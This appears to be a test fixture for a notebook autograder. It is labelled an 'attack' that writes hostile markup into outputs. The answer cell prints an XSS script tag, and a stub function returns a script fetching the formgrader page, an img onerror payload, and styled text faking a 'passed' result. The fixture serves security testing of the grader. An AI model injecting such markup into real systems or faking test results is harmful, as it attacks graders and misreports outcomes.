# /// attack
# title = "Write markup into messages and outputs"
# lab = "01-sgd"
# class = "hostile text"
# fails = ["num-updates-tests"]
# flags = []
# ///

# %% role="answer" id="num-updates"

print("<script>alert(1)</script>")


def num_updates(num_samples, batch_size, num_epochs):
    return "<script>fetch('/formgrader')</script><img src=x onerror=alert(1)> [red]passed[/red]"
